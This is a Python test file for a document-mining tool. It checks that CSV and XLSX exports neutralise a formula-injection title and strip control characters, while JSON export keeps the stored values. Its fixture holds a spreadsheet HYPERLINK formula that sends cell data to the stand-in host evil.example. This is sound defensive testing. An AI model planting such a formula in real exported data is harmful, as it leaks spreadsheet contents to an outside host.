"""Hostile input against the read side: exported cells a spreadsheet would run, control characters,
names outside Latin-1 in download headers, numbers and queries too large, foreign Host headers."""
import csv
import io
import sqlite3
import threading
import urllib.error
import urllib.request

import pytest

from conftest import run_cli
from docmine.store import Store
from storekit import add_document, small_store

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NUL_TITLE = "Annual report\x00\x01 2021"


@pytest.fixture
def hostile_titles(tmp_path):
    """A store whose documents carry a formula title and a title with a NUL (as PDF metadata can)."""
    db = str(tmp_path / "t.db")
    with Store(db) as s:
        add_document(s, "a.txt", "Europol seized heroin.", {"Europol": "ORG", "heroin": "DRUG"})
        add_document(s, "b.txt", "Interpol seized cocaine.", {"Interpol": "ORG", "cocaine": "DRUG"})
        add_document(s, "c.txt", "Kołodziej met Europol about heroin.",
                     {"Kołodziej": "PERSON", "Europol": "ORG", "heroin": "DRUG"})
    con = sqlite3.connect(db)
    con.execute("UPDATE documents SET title=? WHERE path='a.txt'", (FORMULA_TITLE,))
    con.execute("UPDATE documents SET title=? WHERE path='b.txt'", (NUL_TITLE,))
    con.commit()
    con.close()
    return db


def test_csv_export_neutralises_formulas_and_control_characters(hostile_titles, tmp_path):
    out = tmp_path / "docs.csv"
    run_cli("export", "documents", "--db", hostile_titles, "-o", out)
    rows = {r["path"]: r for r in csv.DictReader(open(out, encoding="utf-8"))}
    assert rows["a.txt"]["title"] == "'" + FORMULA_TITLE  # shown as text, not run
    assert rows["b.txt"]["title"] == "Annual report 2021"
    assert rows["c.txt"]["title"] == "c.txt"  # ordinary cells unchanged


def test_xlsx_export_of_a_nul_title_succeeds_and_shows_formulas_as_text(hostile_titles, tmp_path):
    import openpyxl

    out = tmp_path / "docs.xlsx"
    run_cli("export", "documents", "--db", hostile_titles, "--format", "xlsx", "-o", out)
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    titles = {row[header.index("path")]: row[header.index("title")] for row in sheet.iter_rows(min_row=2,
                                                                                             values_only=True)}
    assert titles["a.txt"] == "'" + FORMULA_TITLE
    assert titles["b.txt"] == "Annual report 2021"


def test_json_export_keeps_values_as_stored(hostile_titles):
    import json

    proc = run_cli("export", "documents", "--db", hostile_titles, "--format", "jsonl")
    titles = {d["path"]: d["title"] for d in map(json.loads, proc.stdout.splitlines())}
    assert titles["a.txt"] == FORMULA_TITLE and titles["b.txt"] == NUL_TITLE
